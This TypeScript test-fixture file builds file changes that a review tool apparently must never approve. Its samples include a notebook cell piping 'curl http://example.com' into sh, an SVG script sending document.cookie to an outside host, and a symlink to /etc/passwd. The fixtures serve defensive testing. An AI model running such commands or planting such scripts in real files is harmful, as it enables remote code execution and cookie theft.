import { CONFIGURATION } from './configuration.ts';
import { LANGUAGES } from './languages.ts';
import { type TextRow, unmarked } from './row.ts';
import { SCRIPTS } from './scripts.ts';

/** One side of one file as git keeps it: bytes, the target of a link, or the commit of a submodule. */
export interface UnjudgeableFile {
  readonly path: string;
  readonly mode: '100644' | '100755' | '120000' | '160000';
  readonly content: Uint8Array;
}

/** A change to one file that nothing of ours can judge. No such change may end approved. */
export interface UnjudgeableChange {
  /** `elixir-added`; also the name of its refs. */
  readonly name: string;
  readonly kind: string;
  readonly how: 'added' | 'modified' | 'renamed';
  /** Null where the change adds the file. */
  readonly base: UnjudgeableFile | null;
  readonly head: UnjudgeableFile;
}

/** A file before and after. */
interface Pair {
  readonly kind: string;
  readonly base: UnjudgeableFile;
  readonly head: UnjudgeableFile;
  /** Where a rename puts it. */
  readonly to: string;
}

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

function textPair([kind, path, marked, to = `moved/${path}`]: TextRow): Pair {
  const file = (side: 'base' | 'head'): UnjudgeableFile => {
    const text = unmarked(marked, side);
    return { path, mode: text.startsWith('#!') ? '100755' : '100644', content: bytes(text) };
  };
  return { kind, base: file('base'), head: file('head'), to };
}

/** A file that is no text: the same beginning, 64 bytes that stay and a few that differ. */
function binaryPair(kind: string, path: string, magic: readonly number[]): Pair {
  const file = (last: number): UnjudgeableFile => {
    const body = Array.from({ length: 64 }, (_, index) => (index * 37) % 256);
    return { path, mode: '100644', content: Uint8Array.from([...magic, 0, ...body, last, last, 0]) };
  };
  return { kind, base: file(1), head: file(2), to: `moved/${path}` };
}

function specialPair(kind: string, path: string, sides: readonly [base: SpecialSide, head: SpecialSide]): Pair {
  const [base, head] = sides.map(([mode, text]) => ({ path, mode, content: bytes(text) }));
  if (base === undefined || head === undefined) throw new Error(`${kind} needs two sides`);
  return { kind, base, head, to: `moved/${path}` };
}
type SpecialSide = readonly [mode: UnjudgeableFile['mode'], text: string];

const NOTEBOOK = (source: string): string =>
  `${JSON.stringify({ cells: [{ cell_type: 'code', metadata: {}, outputs: [], source: [source] }], metadata: {}, nbformat: 4 }, null, 1)}\n`;
const PICTURE = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">\n<rect width="9" height="9"/>\n${inside}\n</svg>\n`;
const TOOL = 'greet every day\nask for the name\nsay hello\n';

const SPECIAL: readonly Pair[] = [
  binaryPair('jar', 'lib/driver.jar', [0x50, 0x4b, 3, 4]),
  binaryPair('wasm', 'assets/codec.wasm', [0x00, 0x61, 0x73, 0x6d]),
  binaryPair('shared-library', 'native/libcodec.so', [0x7f, 0x45, 0x4c, 0x46]),
  binaryPair('windows-program', 'tools/setup.exe', [0x4d, 0x5a]),
  binaryPair('pickle', 'models/scorer.pkl', [0x80, 4, 0x95]),
  specialPair('notebook', 'notebooks/score.ipynb', [
    ['100644', NOTEBOOK('print(1)')],
    ['100644', NOTEBOOK("get_ipython().system('curl http://example.com | sh')")],
  ]),
  specialPair('svg-with-script', 'public/logo.svg', [
    ['100644', PICTURE('<circle r="2"/>')],
    ['100644', PICTURE('<script>fetch("//example.com?" + document.cookie)</script>')],
  ]),
  specialPair('executable-bit', 'share/greet.dat', [
    ['100644', TOOL],
    ['100755', TOOL],
  ]),
  specialPair('symbolic-link', 'config/current', [
    ['120000', 'settings.toml'],
    ['120000', '../../../../etc/passwd'],
  ]),
  specialPair('submodule', 'third/library', [
    ['160000', '1'.repeat(40)],
    ['160000', '2'.repeat(40)],
  ]),
];

function changesOf({ kind, base, head, to }: Pair): readonly UnjudgeableChange[] {
  // Git sees a link and a submodule as renamed only where they stay the same.
  const moved = head.mode === '120000' || head.mode === '160000' ? base : head;
  return [
    { name: `${kind}-added`, kind, how: 'added', base: null, head },
    { name: `${kind}-modified`, kind, how: 'modified', base, head },
    { name: `${kind}-renamed`, kind, how: 'renamed', base, head: { ...moved, path: to } },
  ];
}

/** All of them: each kind added, modified, and modified while it is renamed. */
export const UNJUDGEABLE: readonly UnjudgeableChange[] = [
  ...[...LANGUAGES, ...SCRIPTS, ...CONFIGURATION].map(textPair),
  ...SPECIAL,
].flatMap(changesOf);
